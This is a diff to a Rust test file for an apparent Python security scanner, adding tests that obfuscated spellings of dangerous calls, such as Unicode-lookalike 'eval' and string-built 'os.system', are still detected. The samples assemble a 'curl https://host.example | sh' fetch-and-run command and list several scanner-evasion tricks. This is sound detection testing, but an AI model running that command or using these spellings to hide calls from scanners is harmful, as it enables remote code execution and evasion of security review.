@@ -10,6 +10,10 @@ use std::collections::BTreeSet;
 use gate_core::coverage::CoverageClass;
 use gate_core::finding::{FileRole, Finding};
 
+use ruff_linter::source_kind::SourceKind;
+use ruff_python_ast::PySourceType;
+
+use super::{Survey, parse, read_by, report::Reporter};
 use crate::context::FileContext;
 
 /// Findings and coverage of a source with this path and the role that the path tells.
@@ -34,6 +38,55 @@ fn rules_of(path: &str, source: &str) -> BTreeSet<String> {
 /// The parts in one string: attack samples are put together here and never lie in a file.
 fn build(parts: &[&str]) -> String {
     parts.concat()
+}
+
+/// What a source gives when every reader reads it, whatever its survey says.
+fn scan_everything(path: &str, source: &str) -> Vec<Finding> {
+    let context = FileContext { path, role: FileRole::of(path), installed: true };
+    let mut findings = Vec::new();
+    let parsed = parse(source, PySourceType::Python);
+    let kind = SourceKind::Python { code: source.to_owned(), is_stub: false };
+    let mut reporter = Reporter::new(&context, source, &mut findings);
+    let survey = Survey { bandit: true, flow: true, drops: true };
+    assert!(read_by(survey, &kind, parsed, PySourceType::Python, &mut reporter));
+    findings
+}
+
+#[test]
+fn a_survey_hides_nothing() {
+    let bandit = bandit::FIRES.iter().chain(bandit::SILENT).map(|(_, source)| ("pkg/a.py", (*source).to_owned()));
+    let behaviour = behaviour::fires().into_iter().chain(behaviour::silent()).map(|(_, path, source)| (path, source));
+    for (path, source) in bandit.chain(behaviour).filter(|(path, _)| path.starts_with("pkg/")) {
+        if let (findings, CoverageClass::Analysed { .. }) = scan(path, source.as_bytes()) {
+            assert_eq!(findings, scan_everything(path, &source), "{source}");
+        }
+    }
+}
+
+#[test]
+fn no_spelling_hides_a_name_from_the_survey() {
+    for source in [
+        "\u{1d4ee}val(x)",
+        "d['p\\x61ssword'] = 'x'",
+        "d['pass' 'word'] = 'x'",
+        "open('\\x2ftmp/x')",
+        "open(f'/tmp/{x}')",
+        "q = 'SEL\\x45CT a FROM ' + t + ' '",
+        "q = select + ' a from ' + t + ' b'",
+        "from builtins import Exception as E\ntry:\n    f()\nexcept E:\n    pass",
+        "import os\nvars(os)['system'](@)",
+        "import os\nos.__dict__['sys' + 'tem'](@)",
+        "import os\ng = getattr\ng(os, 'system')(@)",
+        "import os as o\ngetattr(o, 'sys' + 'tem')(@)",
+        "from six.moves.urllib.request import Request\nRequest(u)",
+        "import numpy.random as r, random\nrandom.random()",
+    ] {
+        let source = source.replace("@", &build(&["'cu", "rl https://host.example | s", "h'"]));
+        let (findings, class) = scan("pkg/a.py", source.as_bytes());
+        assert!(matches!(class, CoverageClass::Analysed { .. }), "{source}");
+        assert_eq!(findings, scan_everything("pkg/a.py", &source), "{source}");
+        assert!(!findings.is_empty(), "{source}");
+    }
 }
 
 #[test]
